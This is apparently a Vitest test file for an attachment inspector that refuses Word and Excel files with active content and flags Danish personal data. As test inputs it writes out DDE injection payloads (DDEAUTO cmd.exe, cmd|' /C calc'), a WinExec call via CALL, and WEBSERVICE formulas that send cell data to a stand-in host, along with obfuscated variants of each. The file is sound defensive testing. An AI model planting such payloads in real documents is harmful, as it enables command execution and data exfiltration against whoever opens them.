import { describe, expect, test } from 'vitest';
import { inspect } from '#attachments/inspect/inspect.ts';
import { Refusal } from '#platform/errors.ts';
import { docx, pdf, png, xlsx } from './make.ts';

/** The rule that refuses the file; undefined where it is taken. */
function refusalOf(name: string, bytes: Buffer): string | undefined {
  try {
    inspect(name, bytes);
    return undefined;
  } catch (error) {
    if (error instanceof Refusal) return error.rule.id;
    throw error;
  }
}
const active = 'attachment.active-content';
const part = (body: string) =>
  docx({ name: 'word/document.xml', content: `<w:document><w:p>${body}</w:p></w:document>` });
const field = (...pieces: string[]) =>
  part(
    `<w:fldChar w:fldCharType="begin"/>${pieces.map((piece) => `<w:r><w:instrText xml:space="preserve">${piece}</w:instrText></w:r>`).join('')}<w:fldChar w:fldCharType="end"/>`,
  );
const formula = (...formulas: string[]) =>
  xlsx({
    name: 'xl/worksheets/sheet1.xml',
    content: `<worksheet>${formulas.map((one) => `<c><f>${one}</f></c>`).join('')}</worksheet>`,
  });

describe('a field of a document that runs, fetches or leads out of it is refused', () => {
  test.each([
    ['in small letters', field('ddeauto c:\\\\windows\\\\cmd.exe')],
    ['in letters of both kinds', field(' IncludePicture "https://x.example/a.png"')],
    ['a link to a file', field(' LINK Excel.Sheet "c:\\\\a.xlsx"')],
    ['an import', field(' IMPORT "https://x.example/a.png"')],
    ['a database', field(' DATABASE \\\\d "x"')],
    ['another document', field(' RD "\\\\\\\\x.example\\\\a.docx"')],
    ['what a printer is told', field(' PRINT 27"E"')],
    ['a link out', field(' HYPERLINK "https://x.example"')],
    ['a link out with a place', field(' HYPERLINK "https://x.example" \\l "a"')],
    ['a place and then a link out', field(' HYPERLINK \\l "a" "https://x.example"')],
    ['over several pieces', field('D', 'DE', 'AUTO c:\\\\cmd')],
    [
      'over several fields',
      part('<w:instrText>DDE</w:instrText><w:fldChar/><w:instrText>AUTO x</w:instrText>'),
    ],
    [
      'right behind another',
      part('<w:instrText>PAGE</w:instrText><w:fldChar/><w:instrText>DDE x</w:instrText>'),
    ],
    ['with letters as numbers', field('&#68;&#x44;E x')],
    ['under another prefix', part('<x:instrText>DDEAUTO x</x:instrText>')],
    ['without a prefix', part('<instrText>DDEAUTO x</instrText>')],
    ['as text that is marked', part('<w:instrText><![CDATA[DDEAUTO x]]></w:instrText>')],
    ['around a remark', part('<w:instrText>DDE<!-- x -->AUTO x</w:instrText>')],
    ['behind an attribute that looks like an end', part('<w:instrText a="/>">DDEAUTO x</w:instrText>')],
    ['that was deleted', part('<w:delInstrText>DDEAUTO x</w:delInstrText>')],
    ['in one piece', part('<w:fldSimple w:instr="DDEAUTO x"/>')],
    ['in one piece between other quotes', part("<w:fldSimple w:instr='dde x'/>")],
    ['in one piece under another prefix', part('<x:fldSimple x:instr = "HYPERLINK &quot;https://x&quot;"/>')],
  ])('%s', (_what, bytes) => {
    expect(refusalOf('a.docx', bytes)).toBe(active);
  });
});

test.each([
  ['numbers of pages', field(' PAGE '), field(' NUMPAGES  \\* Arabic ')],
  ['a table of contents', field(' TOC \\o "1-3" \\h \\z \\u '), field(' PAGEREF _Toc123 \\h ')],
  ['its lines', field(' HYPERLINK \\l "_Toc123" '), field(' HYPERLINK  \\l "afsnit2" \\o "Se afsnit 2"')],
  ['a line in one piece', part('<w:fldSimple w:instr=" HYPERLINK \\l &quot;_Toc1&quot; "/>')],
  [
    'days, names and references',
    field(' DATE \\@ "d. MMMM yyyy" '),
    field(' REF linket \\h '),
    field(' AUTHOR '),
  ],
  ['words that look like commands', field(' MERGEFIELD Link '), field(' REF Middel '), field(' PRINTDATE ')],
  [
    'commands that somebody writes about',
    part('<w:t>DDEAUTO, LINK og HYPERLINK "https://x" er ikke tilladt</w:t>'),
  ],
  ['a remark of the program that wrote it', part("<!-- it's > here --><w:t>Notat</w:t>")],
  ['a fraction', part('<m:f><m:num><m:r><m:t>a|b</m:t></m:r></m:num></m:f>')],
])('%s of an honest document are taken', (_what, ...documents) => {
  expect(documents.map((bytes) => refusalOf('a.docx', bytes as Buffer))).toEqual(
    documents.map(() => undefined),
  );
});

describe('a formula of a workbook that runs, fetches or leads out of it is refused', () => {
  test.each([
    'WEBSERVICE("https://x.example/?"&amp;A1)',
    '_xlfn.WEBSERVICE(A1)',
    'webservice (A1)',
    'FILTERXML(A1,"//a")',
    '_xlfn.IMAGE("https://x.example/a.png")',
    'HYPERLINK("https://x.example","Klik")',
    'IF(A1,HYPERLINK(A2))',
    'HYPERLINK("#A1"&amp;B1)',
    'RTD("x",,"y")',
    'CALL("Kernel32","WinExec","JFJ","cmd",0)',
    'REGISTER("a","b")',
    'REGISTER.ID("a","b")',
    "cmd|' /C calc'!A0",
    "SUM('\\\\x.example\\a\\[b.xlsx]Ark1'!A1)",
    'WEB<!-- x -->SERVICE(A1)',
    '<![CDATA[WEBSERVICE(A1)]]>',
  ])('%s', (hostile) => {
    expect(refusalOf('a.xlsx', formula('SUM(A1:A2)', hostile, 'A1'))).toBe(active);
  });

  test.each([
    ['under another prefix', '<x:c><x:f>WEBSERVICE(A1)</x:f></x:c>'],
    ['of a name', '<definedName name="a">WEBSERVICE(A1)</definedName>'],
    ['of a condition', '<formula>WEBSERVICE(A1)</formula>'],
    ['of a rule for what is typed', '<x14:formula1><xm:f>WEBSERVICE(A1)</xm:f></x14:formula1>'],
    ['of a column', '<calculatedColumnFormula>WEBSERVICE(A1)</calculatedColumnFormula>'],
  ])('%s', (_where, content) => {
    expect(refusalOf('a.xlsx', xlsx({ name: 'xl/tables/table1.xml', content }))).toBe(active);
  });
});

test('formulas of an honest workbook are taken', () => {
  const honest = formula(
    'SUM(A1:A2)',
    'IF(A1&gt;1,"Ja|Nej","https://kk.dk")',
    "VLOOKUP(A1,'Ark|2'!A:B,2,FALSE)",
    'Tabel1[[#This Row],[Ja|Nej]]',
    'TEXT(A1,"dd\\-mm")',
    'IMAGINARY(A1)&amp;RECALL_1',
    'HYPERLINK("#Ark2!A1","Til ark 2")',
  );
  expect(refusalOf('a.xlsx', honest)).toBeUndefined();
  const names = {
    name: 'xl/workbook.xml',
    content: '<workbook><definedName>Link!$A$1</definedName></workbook>',
  };
  expect(refusalOf('a.xlsx', xlsx(names))).toBeUndefined();
});

test('a part that is not closed is refused, however long it is', () => {
  const long = '<w:p a="'.repeat(200_001);
  expect(refusalOf('a.docx', part(long))).toBe('attachment.damaged');
  expect(refusalOf('a.docx', part('<w:p>'.repeat(2_000)))).toBe('attachment.damaged');
});

describe('hints', () => {
  const hintsOf = (name: string, bytes: Buffer) => inspect(name, bytes).hints;
  const text = (content: string) => Buffer.from(content);

  test('of texts, documents and workbooks are those of a text that is written', () => {
    expect(hintsOf('a.txt', text('Nummer 780264-2812.'))).toEqual(['cpr_number']);
    expect(hintsOf('a.txt', text('Intet nummer.'))).toEqual([]);
    const named = docx({ name: 'word/document.xml', content: '<w:t>780264-</w:t><w:t>2812</w:t>' });
    expect(hintsOf('a.docx', named)).toEqual(['cpr_number']);
    const written = part('<w:t>Bor hos Mette Hansen</w:t></w:p><w:p><w:t>Har fået en diagnose.</w:t>');
    expect(hintsOf('a.docx', written)).toEqual(['person_name', 'special_category']);
    const cells = {
      name: 'xl/sharedStrings.xml',
      content: '<sst><si><t>Barnet</t></si><si><t>Andet</t></si></sst>',
    };
    expect(hintsOf('a.xlsx', xlsx(cells))).toEqual(['child']);
  });

  test('not of who the program says wrote it, but of a number there', () => {
    const by = (who: string) =>
      docx({ name: 'docProps/core.xml', content: `<cp:a><dc:creator>${who}</dc:creator></cp:a>` });
    expect(hintsOf('a.docx', by('Mette Hansen'))).toEqual([]);
    expect(hintsOf('a.docx', by('780264-2812'))).toEqual(['cpr_number']);
  });

  test('a PDF, a picture and the end of a very long text are said not to be searched', () => {
    expect(hintsOf('a.pdf', pdf())).toEqual(['file.not-searched']);
    expect(hintsOf('a.png', png())).toEqual(['file.not-searched']);
    expect(hintsOf('a.txt', text(`Barnet. ${'a '.repeat(130_000)}`))).toEqual(['child', 'file.not-searched']);
  });
});
